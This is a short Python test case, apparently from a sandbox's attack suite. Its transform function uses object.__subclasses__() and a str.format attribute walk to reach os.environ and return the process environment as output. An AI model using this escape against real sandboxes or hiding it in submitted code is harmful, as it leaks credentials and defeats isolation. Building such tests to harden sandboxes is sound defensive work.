# attack: str.format walks attributes and keys to the environment
# expect: answer
OUTPUT = {"v": {"type": "bytes", "max": 4096}}


def transform(payload):
    (kind,) = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"]
    return {"v": "{0.__init__.__globals__[environ]}".format(kind).encode()[:4096]}
